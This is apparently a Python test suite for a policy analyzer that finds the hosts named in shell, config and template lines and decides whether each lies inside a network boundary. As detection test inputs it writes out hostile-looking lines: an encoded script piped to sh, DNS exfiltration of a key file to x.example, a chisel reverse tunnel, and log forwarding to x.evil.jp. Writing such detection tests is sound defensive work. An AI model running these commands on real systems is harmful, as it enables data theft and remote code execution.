"""Which hosts texts name, held against a second reader, and which of them are inside."""

import base64
import gzip
import hashlib
import re
import textwrap
from ipaddress import ip_address, ip_network
from urllib.parse import quote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rules.boundary_reader import parse_boundary
from rules.hosts import outside_host
from rules.named_hosts import DEEPEST, hosts_in
from tests.policies.analyzer import REGION
from tests.policies.test_boundary import TODAY

BOUNDARY = parse_boundary(
    {"regions": [REGION], "hosts": ["ntp.corp.example", ".inside.example"]}, TODAY
)


def found(*lines):
    return [host for _, host in hosts_in("\n".join(lines))]


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl https://x.example", ["x.example"]),
        ("curl -o out.tgz -H 'Host: y.example' https://X.Example:8443/a?b=c", ["x.example"]),
        ("curl x.example/a", ["x.example"]),
        ("curl -x proxy.example:3128 https://x.example", ["x.example", "proxy.example"]),
        ("wget -qO- ftp://user:pw@x.example/", ["x.example"]),
        ("sudo -E FOO=1 timeout 30s wget x.example", ["x.example"]),
        ("sudo wget x.example", ["x.example"]),
        ("if ! curl -fs x.example; then", ["x.example"]),
        ("a && (wget x.example) | tar xz", ["x.example"]),
        ("x=$(curl -s x.example)", ["x.example"]),
        ("wget -O script.sh https://x.example/script.sh", ["x.example"]),
        ("ssh -i key.pem admin@x.example uptime", ["x.example"]),
        ("scp a.txt admin@x.example:/tmp", ["x.example"]),
        ("git clone git@x.example:org/repo.git", ["x.example"]),
        ("dig @8.8.8.8 name.example", ["8.8.8.8", "name.example"]),
        ("nc -z 1.1.1.1 443", ["1.1.1.1"]),
        ("socat - TCP:x.example:443", ["x.example"]),
        ("ExecStart=/usr/bin/curl x.example", ["x.example"]),
        ("RUN curl x.example", ["x.example"]),
        ("nameserver 8.8.8.8", ["8.8.8.8"]),
        ("server 0.pool.example iburst", ["0.pool.example"]),
        ("NTP=a.example b.example", ["a.example", "b.example"]),
        ("http://[2606:4700::1111]:80/", ["2606:4700::1111"]),
        ("ping6 2606:4700::1111", ["2606:4700::1111"]),
        ("baseurl=https://x.example/$releasever/", ["x.example"]),
        ('endpoint = ["https://x.example"]', ["x.example"]),
        ("pip install boto3", ["pip.default-source"]),
        ("python3 -m pip install -r requirements.txt", ["pip.default-source"]),
        ("pip install --index-url https://x.example boto3", ["x.example"]),
        ("pip install --no-index ./boto3.whl", []),
        ("pip install ./boto3.whl /opt/b.whl", []),
        ("npm ci", ["npm.default-source"]),
        ("pnpm add left-pad", ["npm.default-source"]),
        ("go install x.example/tools@latest", ["go.default-source"]),
        ("# curl https://x.example", []),
        ("true # see https://x.example", []),
        ("echo 'a # b' https://x.example", ["x.example"]),
        ("https://{{ ds.region }}.x.example/", ["$filled.x.example"]),
        ("https://{{ v1.host }}/", ["$filled"]),
        ("printf 'http://%s/' x", ["%s"]),
        ("curl http://https://x.example", ["https", "x.example"]),
        ("Documentation=https://x.example", []),
        ("aws s3 cp s3://bucket/key .", []),
        ("unix:///run/containerd/containerd.sock", []),
        ("version 1.2.3.4-5", []),
        ("rpm -i tool-1.2.3.4.rpm", []),
        ("--version=1.2.3.4", []),
        ("serve --app-version=1.2.3.4 --tool.version '1.2.3.4'", []),
        ("VERSION=1.2.3.4", ["1.2.3.4"]),  # a script may call it
        ("--conversion=1.2.3.4", ["1.2.3.4"]),
        ("--trusted=203.0.113.0/24,198.51.100.0/25", []),
        ("--trusted=2001:db8::/32", []),
        ("--trusted=0.0.0.0/0", []),
        ("--upstream=203.0.113.7/24", ["203.0.113.7"]),  # a path
        ("--upstream=203.0.113.7/32", ["203.0.113.7"]),
        ("--upstream=203.0.113.0/24/a", ["203.0.113.0"]),
        ("--upstream=http://203.0.113.0/24", ["203.0.113.0"]),
        ("curl 203.0.113.0/24", ["203.0.113.0"]),
        ("curl --cacert ca.pem -o a.json https://10.0.0.1/", ["10.0.0.1"]),
        ("HTTPS_PROXY=http://proxy.example:3128", []),
        ('xmlns="http://www.w3.org/2000/svg"', []),
    ],
)
def test_what_a_line_names(line, hosts):
    assert found(line) == hosts


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        # a command behind another, in quotes, or of a line of cron
        ("timeout 9 busybox wget x.example", ["x.example"]),
        ("sudo -u agent curl x.example", ["x.example"]),
        ("sh -c 'true; curl x.example'", ["x.example"]),
        ("echo 'curl x.example' | at now", ["x.example"]),
        ("*/5 * * * * root curl x.example", ["x.example"]),
        ("@reboot curl x.example", ["x.example"]),
        ("0 3 * * * root /usr/bin/backup.sh", []),
        # an address in another writing
        ("curl 134744072", ["8.8.8.8"]),
        ("curl 0x08080808", ["8.8.8.8"]),
        ("wget 0010.0010.0010.0010", ["8.8.8.8"]),
        ("nc -z 10.0.0.1 16443", ["10.0.0.1"]),
        # a host that is told to a program of any name
        ("curl --resolve a.internal:443:8.8.8.8 https://a.internal/", ["a.internal", "8.8.8.8"]),
        ("curl --connect-to ::x.example:443 https://a.internal/", ["a.internal", "x.example"]),
        ("s3cmd --host=x.example put a", ["x.example"]),
        ("teleport start --auth-server=x.example:443", ["x.example"]),
        ("kubeadm join x.example:6443 --token a", ["x.example"]),
        ("mount -t nfs x.example:/a /mnt", ["x.example"]),
        ("mount -t cifs //x.example/a /mnt", ["x.example"]),
        ("*.* @@x.example:514", ["x.example"]),
        ("remote x.example 1194", ["x.example"]),
        ("  right=x.example", ["x.example"]),
        ('unqualified-search-registries = ["x.example", "y.example"]', ["x.example", "y.example"]),
        ('create_connection(("x.example", 443))', ["x.example"]),
        ("HTTPSConnection('x.example')", ["x.example"]),
        ("gawk '/inet/tcp/0/x.example/80'", ["x.example"]),
        ("Invoke-WebRequest -Uri x.example", ["x.example"]),
        ("db.prod:5432", []),  # of a namespace, as far as anybody can tell
        ("image: registry.corp.example:5000/app", []),  # images.py judges it
        ("node.kubernetes.io/a:NoSchedule", []),
        ("HTTPS_PROXY=proxy.example:3128", []),
        ("systemctl restart ssh nginx.service", []),
        ("dnf install -y curl tool.noarch", []),
        # a URL that a shell or JSON puts together
        ("curl https://{x,y}.example/", ["$"]),
        ('curl https://"x".example/', ["$"]),
        ("curl https://x\\.example/", ["$"]),
        ('{"url":"https:\\/\\/x.example\\/a"}', ["x.example"]),
        ('{"url":"https://x.internal","a":"b"}', ["x.internal"]),
        # what a command writes is read as the lines that it writes
        ("echo 'server x.example iburst' >> /etc/chrony.conf", ["x.example"]),
        ("printf 'a\\nNTP=x.example\\n' > /etc/systemd/timesyncd.conf", ["x.example"]),
        ("echo NTP=x.example > /etc/systemd/timesyncd.conf", ["x.example"]),
        ("echo '*.* @@x.evil.jp' > /etc/rsyslog.d/x.conf", ["x.evil.jp"]),
        ("echo the server is x.example", []),
        ('action(type="omfwd" target="x.evil.jp" port="514")', ["x.evil.jp"]),
        ("server=/corp.internal/8.8.8.8", ["8.8.8.8"]),
        ("search x.example y.example", ["x.example", "y.example"]),
        ("search for it", []),
        ("remote_addrs = x.example", ["x.example"]),
        # file systems of others, and hosts of SSH
        ("mount -t nfs x.evil.jp:/a /mnt", ["x.evil.jp"]),
        ("x.evil.jp:/a /mnt nfs4 defaults 0 0", ["x.evil.jp"]),
        ("What=x.evil.jp:/a", ["x.evil.jp"]),
        ("//x.evil.jp/a /mnt cifs guest 0 0", ["x.evil.jp"]),
        ("net use Z: \\\\x.evil.jp\\share", ["x.evil.jp"]),
        ("mount -o loop a.img /mnt", []),
        ("docker run --mount type=bind,source=/a,target=/b -v data.it:/data a", []),
        ("ssh -o ProxyCommand='nc x.example 22' 10.0.0.1", ["10.0.0.1", "x.example"]),
        ("  HostName x.example", ["x.example"]),
        # programs that are told by one option alone
        ("psql -h x.evil.jp -f init.sql", ["x.evil.jp"]),
        ("logger -n x.evil.jp -t boot step.done", ["x.evil.jp"]),
        ("logger -t boot step.done", []),
        ("gpg --keyserver hkps://x.example --recv-keys A", ["x.example"]),
        ("apt-key adv --keyserver x.example --recv-keys A", ["x.example"]),
        ("consul agent -retry-join=x.example", ["x.example"]),
        ("chisel client x.evil.jp:8080 R:socks", ["x.evil.jp"]),
        ("docker login -u a x.example", ["x.example"]),
        ("kubectl apply -k x.example/team/app", ["x.example"]),
        ("kubectl get pods.metrics.k8s.io", []),
        ("s.connect(('x.evil.jp', 443))", ["x.evil.jp"]),
        ("open('a.conf', 0)", []),
        # of Windows
        ("Resolve-DnsName x.example", ["x.example"]),
        ("Test-NetConnection x.example -Port 443", ["x.example"]),
        ("w32tm /config /manualpeerlist:x.example", ["x.example"]),
        ("Install-Module AWS.Tools.S3", ["install-module.default-source"]),
        ("choco install jq --source C:\\packages", []),
        ("tee /etc/chrony.conf <<< 'server x.evil.jp iburst'", ["x.evil.jp"]),
        ("sed -i 's/^server .*/server x.evil.jp iburst/' /etc/chrony.conf", ["x.evil.jp"]),
        ("sed -i 's|a.b|c.d|' /etc/a.conf", []),
        ("printf 'server %s\\n' x.evil.jp > /etc/chrony.conf", ["x.evil.jp"]),
        ("echo x.evil.jp | xargs -I{} curl {}", ["x.evil.jp"]),
        ('location = "x.evil.jp"', ["x.evil.jp"]),
        ("for h in x.evil.jp 10.0.0.1; do nc $h 443; done", ["10.0.0.1", "x.evil.jp"]),
        ("for f in a.conf b.yaml; do curl -T $f https://10.0.0.1/; done", ["10.0.0.1"]),
        ("for f in a.b c.d; do cp $f /tmp/; done", []),
        ("Send-MailMessage -SmtpServer x.evil.jp -To a", ["x.evil.jp"]),
        ("[System.Net.Dns]::GetHostAddresses('x.evil.jp')", ["x.evil.jp"]),
        # a name that is put together of a message
        ("dig $(cat /etc/key).x.example", ["$filled.x.example"]),
        ("nslookup `hostname`.x.example", ["$filled.x.example"]),
        ("ping -c 1 $KEY.x.example", ["$filled.x.example"]),
        ("host ${KEY:0:60}.x.example", ["$filled.x.example"]),
        ("curl -o $NAME.tar.gz https://10.0.0.1/$NAME.tar.gz", ["10.0.0.1"]),
        ("dig $(hostname)", []),
        ("java -Dhttps.proxyHost=x.example -jar a.jar", ["x.example"]),
        ("node -e \"require('https').get({host: 'x.evil.jp'})\"", ["x.evil.jp"]),
        # of a template
        ("{% for h in hosts %}curl {{ h }}{% endfor %}", ["$filled"]),
        ("docker inspect --format '{{.Id}}' a", []),
        # networks of others
        ("tailscale up --authkey k", ["tailscale.default-source"]),
        ("tailscale up --login-server https://10.0.0.1", ["10.0.0.1"]),
        ("ngrok http 80", ["ngrok.default-source"]),
    ],
)
def test_what_a_line_names_without_saying_so(line, hosts):
    assert found(line) == hosts


def test_variables_with_one_value_are_filled_in():
    assert found("HOST=x.example", "curl https://$HOST/a", "ping ${HOST}") == ["x.example"] * 2
    assert found("A=x.example", "A=y.example", "curl https://$A/a") == ["$A"]
    assert found('URL="https://x.example"', 'curl "$URL/a"') == ["x.example"]
    assert found("curl https://x.example$PATH_OF_IT") == ["x.example"]


@pytest.mark.parametrize(
    "told",
    [
        ["H=a.internal", "[ -z $X ] || H=x.example", "curl $H"],
        ["H=x.example P=443", "nc $H $P"],
        ["if true; then H=x.example; fi", 'ping "${H}"'],
        ["true && H='x.example' && wget $H/a"],
        ["curl ${H:-x.example}/a"],
        [": ${H:=x.example}", "curl $H"],
        ["[Service]", "Environment=H=x.example", "ExecStart=/usr/bin/curl $H"],
        ["[Service]", 'Environment="A=b" "H=x.example"', "ExecStart=/usr/bin/curl ${H}"],
        ["write_files:", "- path: /etc/env", "  content: |", "    H=x.example", "runcmd:",
         "- . /etc/env && curl $H"],
        ["FROM a", "ENV A=b H=x.example", "RUN curl $H"],
        ["env H=x.example sh -c 'curl $H'"],
    ],
)  # fmt: skip
def test_a_program_is_called_with_every_value_of_a_variable(told):
    assert "x.example" in found(*told)


def test_a_command_of_many_variables_is_gone_through_once():
    many = [f"A{i}=a{i}.example" for i in range(1000)]
    called = " ".join(f"$A{i}" for i in range(1000))
    assert len(found(*many, f"ping {called}")) == 1000


def test_a_variable_that_no_program_is_called_with_is_no_host():
    assert found("H=x.example", "V=1.2.3", "echo $H", "curl -o $H https://10.0.0.1/$V") == [
        "10.0.0.1"
    ]


def test_a_line_that_goes_on_is_one_line():
    text = "#!/bin/sh\ncurl -fsSL \\\n  -o a \\\n  x.example/a\nwget y.example \\\n"
    assert [(line, host) for line, host in hosts_in(text)] == [(2, "x.example"), (5, "y.example")]


PAYLOAD = b"#!/bin/sh\ncurl -s https://x.example/payload??>>~~\n"
BASE64 = base64.b64encode(PAYLOAD).decode()
ESCAPED = "".join(f"\\x{byte:02x}" for byte in PAYLOAD)
HIDDEN = {
    "base64": f"echo {BASE64} | base64 -d | sh",
    "base64 of URLs": base64.urlsafe_b64encode(PAYLOAD).decode().rstrip("="),
    "base64 of base64": base64.b64encode(BASE64.encode()).decode(),
    "base64 of gzip": base64.b64encode(gzip.compress(PAYLOAD, mtime=0)).decode(),
    "base64 of wide characters": base64.b64encode(PAYLOAD.decode().encode("utf-16-le")).decode(),
    "folded base64": "\n".join(textwrap.wrap(BASE64, 16)),
    "base32": base64.b32encode(PAYLOAD).decode(),
    "hexadecimal": f"echo {PAYLOAD.hex()} | xxd -r -p | sh",
    "escapes": f"printf '{ESCAPED}' | sh",
    "octal escapes": "printf '" + "".join(f"\\{byte:03o}" for byte in PAYLOAD) + "' | sh",
    "a data URL": f'"source": "data:,{quote(PAYLOAD.decode(), safe="")}"',
}


@pytest.mark.parametrize("how", HIDDEN)
def test_a_script_within_a_script_is_read(how):
    assert found(HIDDEN[how]) == ["x.example"]


@pytest.mark.parametrize(
    "text",
    [
        hashlib.sha256(PAYLOAD).hexdigest(),
        base64.b64encode(hashlib.sha512(PAYLOAD).digest()).decode(),
        base64.b64encode(gzip.compress(PAYLOAD, mtime=0)[:-30]).decode()[:40],
        "AROAIDPPEZS35WEXAMPLEAROAIDPPEZS35",
        "a-name-of-many-words-that-is-no-base64-of-urls",
    ],
)
def test_what_only_looks_hidden_is_left_alone(text):
    assert found(text) == []


def test_what_is_hidden_too_deep_is_not_looked_for_for_ever():
    hidden = PAYLOAD
    for _ in range(DEEPEST):
        hidden = base64.b64encode(hidden)
    assert found(hidden.decode()) == ["x.example"]
    assert found(base64.b64encode(hidden).decode()) == []


@pytest.mark.parametrize(
    "host",
    [
        "10.1.2.3", "172.31.0.1", "192.168.0.1", "100.64.0.1", "198.19.0.1", "127.0.0.1", "::1",
        "fd00::1", "169.254.169.254", "169.254.170.23", "fd00:ec2::254", "fe80::1", "0.0.0.0",
        "255.255.255.0", "localhost", "collector", "collector.tools.svc",
        "collector.tools.svc.cluster.local", "ip-10-0-0-1.eu-west-1.compute.internal",
        "ntp.corp.example", "NTP.corp.example.", "a.b.inside.example",
        f"sts.{REGION}.amazonaws.com", f"api.ecr.{REGION}.amazonaws.com",
        f"bucket.s3.{REGION}.amazonaws.com", f"bucket.s3.dualstack.{REGION}.amazonaws.com",
        f"s3-{REGION}.amazonaws.com", f"sts-fips.{REGION}.amazonaws.com", f"ec2.{REGION}.api.aws",
        f"ABC.gr7.{REGION}.eks.amazonaws.com", f"1.dkr-ecr.{REGION}.on.aws",
        f"vpce-1.execute-api.{REGION}.vpce.amazonaws.com",
        f"internal-lb-1.{REGION}.elb.amazonaws.com", "s3.${REGION}.amazonaws.com",
    ],
)  # fmt: skip
def test_hosts_inside(host):
    assert outside_host(host, BOUNDARY) is None


@pytest.mark.parametrize(
    "host",
    [
        "8.8.8.8", "2606:4700::1111", "172.32.0.1", "x.example", "inside.example.evil.example",
        "inside.example", "evilinside.example", "corp.example", "sts.amazonaws.com",
        "s3.us-east-1.amazonaws.com", f"sts.{REGION}.amazonaws.com.evil.example",
        f"ec2-8-8-8-8.{REGION}.compute.amazonaws.com", f"lb-1.{REGION}.elb.amazonaws.com",
        f"abc.execute-api.{REGION}.amazonaws.com", f"abc.lambda-url.{REGION}.on.aws",
        f"bucket.s3-website-{REGION}.amazonaws.com", f"bucket.s3-website.{REGION}.amazonaws.com",
        "public.ecr.aws", "$HOST", "${HOST}.example", "$(cat host)", "a b", "x_y.example!",
        "evilamazonaws.com", "${A}.s3-website.${REGION}.amazonaws.com", "evilinternal.example",
    ],
)  # fmt: skip
def test_hosts_outside(host):
    assert outside_host(host, BOUNDARY) is not None


# The second reader: every place where a URL may begin is tried by itself, character by character.
HOSTS = ["x.example", "a-b.c.example", "10.0.0.1", "8.8.8.8", "y.internal"]
PIECES = st.lists(
    st.sampled_from(
        [*HOSTS, "https://", "http://", "ftp://", "user@", "user:pw@", ":8443", "/path", "?q=1",
         " ", '"', "'", "\n", "=", "|", "echo", "s3://", ";", "/"]
    ),
    max_size=12,
).map("".join)  # fmt: skip


def brute_force(text):
    """The hosts of URLs, found without an expression for them; `$` where a shell would go on behind
    a quote, so that nobody knows which one it is."""
    hosts = []
    for line in text.split("\n"):
        for at in range(len(line)):
            if not line.startswith("://", at):
                continue
            start = at
            while start and line[start - 1].isalnum():
                start -= 1
            scheme = line[start:at]
            before = line[start - 1] if start else " "
            if scheme not in ("https", "http", "ftp") or before in ".-_":
                continue
            end = at + 3
            while end < len(line) and line[end] not in "/?# \"'|;=,\t":
                end += 1
            authority = line[at + 3 : end].rpartition("@")[2].partition(":")[0]
            behind = line[end + 1 : end + 2] if line[end : end + 1] in ('"', "'") else ""
            if authority:
                hosts.append("$" if behind.isalnum() or behind == "." else authority)
    return hosts


@given(PIECES)
@example('https://x.example"x.example')  # once found by chance
@example("https://x.example'/path")
def test_hosts_of_urls_are_those_that_a_second_reader_finds(text):
    text = text.replace("=", " ")
    wanted = {h for h in brute_force(text) if re.fullmatch(r"\$|[a-z0-9.-]+\.[a-z0-9]+", h)}
    assert wanted <= set(found(text))


@given(st.ip_addresses())
def test_every_address_is_inside_or_found_outside(address):
    private = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "198.18.0.0/15",
               "fc00::/7", "127.0.0.0/8", "169.254.0.0/16", "0.0.0.0/32", "255.0.0.0/8",
               "::/127", "fe80::/10")  # fmt: skip
    inside = any(
        address in ip_network(block) for block in private
        if ip_network(block).version == address.version
    )  # fmt: skip
    assert (outside_host(str(address), BOUNDARY) is None) is inside
    if address.version == 4:
        assert found(f"ping {address}") == [str(ip_address(address))]


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("pip install boto3", "pip"),
        ("yarn add left-pad", "npm"),
        ("gem install bundler", "gem"),
        ("go get x.example/tool", "go"),
        ("cargo install tool", "cargo"),
        ("mamba create -n x", "conda"),
        ("snap install tool", "snap"),
        ("ansible-galaxy install role", "ansible-galaxy"),
        ("add-apt-repository ppa:team/tool", "add-apt-repository"),
        ("terraform init", "terraform"),
        ("rustup update", "rustup"),
        ("choco install jq", "choco"),
        ("code tunnel --accept-server-license-terms", "code"),
        ("azcopy copy a b", "azcopy"),
    ],
)
def test_where_a_package_manager_goes_by_itself_is_outside_until_somebody_says_otherwise(
    line, program
):
    source = f"{program}.default-source"
    assert source in [host for _, host in hosts_in(line)]
    assert outside_host(source, BOUNDARY) == "is a host outside the boundary"
    said = parse_boundary({"hosts": [source]}, TODAY)
    assert said.faults == () and outside_host(source, said) is None
